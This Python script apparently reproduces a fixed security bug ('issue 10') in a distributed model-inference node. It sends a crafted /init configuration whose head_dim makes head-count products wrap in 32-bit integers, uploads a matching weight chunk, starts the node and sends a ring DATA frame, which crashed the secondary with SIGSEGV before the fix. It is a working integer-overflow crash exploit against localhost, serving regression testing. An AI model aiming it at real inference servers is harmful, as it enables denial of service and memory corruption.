"""The crafted POST /init of issue 10: a run configuration whose
num_attention_heads * head_dim and num_key_value_heads * head_dim wrap in
32-bit int to the real model's widths (16 * (2^29 + 4) = 64 and
8 * (2^29 + 4) = 32 modulo 2^32), so that the chunk's shapes match; then the
chunk (anyone may upload one: its digest is all /init asks), POST /start, and
one DATA frame on the ring port as the previous node. Before the fix the
secondary died of SIGSEGV in the attention.

usage: crafted_init.py HTTP_PORT RING_PORT CHUNK LAYER_BEGIN LAYER_END
Prints one line per step: "init STATUS BODY", then "chunk ...", "start ...",
and "ring sent" when the frame went out."""
import hashlib, json, socket, struct, sys, time, urllib.error, urllib.request

http_port, ring_port, chunk = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
begin, end = int(sys.argv[4]), int(sys.argv[5])
data = open(chunk, "rb").read()
hd = (1 << 29) + 4
body = {"role": "secondary", "node_index": 0, "n_nodes": 2, "model": "crafted",
        "model_config": {"model_type": "llama", "hidden_size": 64, "intermediate_size": 172,
                         "num_hidden_layers": 5, "num_attention_heads": 16, "num_key_value_heads": 8,
                         "head_dim": hd, "vocab_size": 512, "max_position_embeddings": 512},
        "layers": [begin, end], "dtype": "auto", "wire_dtype": "f32", "kv_dtype": "f32",
        "n_samples": 1, "max_seq": 16, "max_batch": 1, "is_last": True,
        "prev": {"addr": "127.0.0.1", "port": 1}, "next": {"addr": "127.0.0.1", "port": 9},
        "chunk_sha256": hashlib.sha256(data).hexdigest(), "chunk_size": len(data), "timeout_s": 3}


def req(method, path, payload):
    r = urllib.request.Request("http://127.0.0.1:%d%s" % (http_port, path), data=payload, method=method)
    try:
        with urllib.request.urlopen(r, timeout=10) as f:
            return f.status, f.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except Exception as e:  # the node died
        return 0, str(e)


for step, method, path, payload in (("init", "POST", "/init", json.dumps(body).encode()),
                                    ("chunk", "PUT", "/chunk", data), ("start", "POST", "/start", b"")):
    st, text = req(method, path, payload)
    print(step, st, text.strip().replace("\n", " "), flush=True)


def frame(typ, sid=0, pos=0, n=0, dt=0, flags=0, payload=b""):
    return struct.pack("<IHHIIIHHQII", 0x5249444D, 1, typ, sid, pos, n, dt, flags, len(payload), 0, 0) + payload


time.sleep(0.5)
try:
    s = socket.create_connection(("127.0.0.1", ring_port), timeout=3)
    s.sendall(frame(1))
    s.recv(64)
    s.sendall(frame(2, n=1, flags=1, payload=b"\0" * 256))
    print("ring sent", flush=True)
    time.sleep(1)
except OSError as e:
    print("ring", e, flush=True)
